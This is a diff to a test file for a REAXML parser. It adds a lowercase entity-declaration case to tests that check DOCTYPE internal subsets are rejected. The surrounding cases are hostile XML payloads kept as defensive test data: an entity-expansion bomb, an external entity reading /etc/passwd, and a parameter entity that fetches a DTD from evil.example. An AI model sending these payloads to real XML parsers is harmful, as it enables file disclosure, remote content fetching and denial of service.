@@ -145,6 +145,7 @@ describe('what is not REAXML is rejected whole', () => {
     ['a bomb', '[<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]'],
     ['an external entity', '[<!ENTITY x SYSTEM "file:///etc/passwd">]'],
     ['a parameter entity', '[<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]'],
+    ['one in small letters', '[<!entity b "c">]'],
     ['one in a comment', "[<!-- ' --><!ENTITY a 'x'>]"],
   ])('%s', async (_, subset) => {
     const xml = `<?xml version="1.0"?><!DOCTYPE propertyList ${subset}>${list(headline('&x;&b;'))}`;
